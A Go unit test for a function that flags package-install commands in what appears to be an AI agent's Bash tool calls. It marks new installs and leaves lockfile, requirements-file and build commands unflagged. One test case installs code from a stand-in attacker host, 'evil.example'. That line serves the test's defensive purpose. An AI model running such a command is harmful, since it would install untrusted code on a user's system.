package action

import "testing"

func TestInstallMarks(t *testing.T) {
	cases := map[string]bool{
		"pip install requests":                       true,
		"pip install git+https://evil.example/x.git": true,
		"pip3 install --user black":                  true,
		"python3 -m pip install flask":               true,
		"uv pip install numpy":                       true,
		"npm install left-pad":                       true,
		"npm i -D vitest":                            true,
		"yarn add react":                             true,
		"pnpm add zod":                               true,
		"npx -y cowsay hi":                           true,
		"go install golang.org/x/tools/gopls@latest": true,
		"cargo install ripgrep":                      true,
		"brew install jq":                            true,
		"sudo apt-get install -y curl":               true,
		"gem install rails":                          true,
		"npm install":                                false,
		"npm ci":                                     false,
		"pip install -r requirements.txt":            false,
		"pip install -e .":                           false,
		"go install ./cmd/...":                       false,
		"go build ./...":                             false,
		"cargo build":                                false,
		"yarn":                                       false,
		"pip list":                                   false,
	}
	for cmd, want := range cases {
		parts := Parts(Action{Tool: "Bash", Input: map[string]any{"command": cmd}, Cwd: "/home/ana/shop"})
		got := false
		for _, p := range parts {
			got = got || InstallsPackage(p)
		}
		if got != want {
			t.Errorf("%s: InstallsPackage %v; want %v (ladders %v)", cmd, got, want, parts)
		}
	}
}
